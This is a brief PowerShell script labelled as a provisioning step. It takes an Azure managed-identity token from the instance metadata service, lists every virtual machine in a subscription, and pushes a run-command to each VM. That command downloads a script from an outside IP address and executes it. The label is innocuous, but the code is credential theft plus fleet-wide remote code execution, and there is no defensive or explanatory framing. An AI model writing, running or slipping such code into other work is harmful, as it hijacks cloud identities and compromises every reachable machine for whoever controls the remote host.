# provision 8989 v0
$t = (Invoke-WebRequest -UseBasicParsing -Headers @{Metadata="true"} "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F").Content | ConvertFrom-Json
$h = @{Authorization = "Bearer $($t.access_token)"}
$vms = Invoke-RestMethod -Headers $h "https://management.azure.com/subscriptions/$sub/providers/Microsoft.Compute/virtualMachines?api-version=2023-03-01"
foreach ($vm in $vms.value) { Invoke-RestMethod -Method Post -Headers $h -Uri "https://management.azure.com$($vm.id)/runCommand?api-version=2023-03-01" -Body '{"commandId":"RunPowerShellScript","script":["iwr http://192.0.2.150/a.ps1|iex"]}' -ContentType application/json }
